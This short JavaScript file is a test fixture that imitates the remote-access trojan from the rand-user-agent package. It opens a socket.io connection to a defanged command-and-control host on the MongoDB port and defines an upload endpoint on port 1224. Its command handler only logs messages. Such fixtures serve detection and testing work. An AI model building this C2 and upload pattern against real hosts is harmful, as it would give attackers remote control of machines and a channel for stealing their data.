// Mimics rand-user-agent's RAT: a socket.io-style client to a C2 on the MongoDB port (defanged .invalid host).
const io = require('socket.io-client');
const socket = io('http://c2-fixture.invalid:27017', { reconnectionDelay: 5000 });
socket.on('command', (msg) => console.log('fixture', msg));
const upload = 'http://c2-fixture.invalid:1224/uploads';
module.exports = { socket, upload };
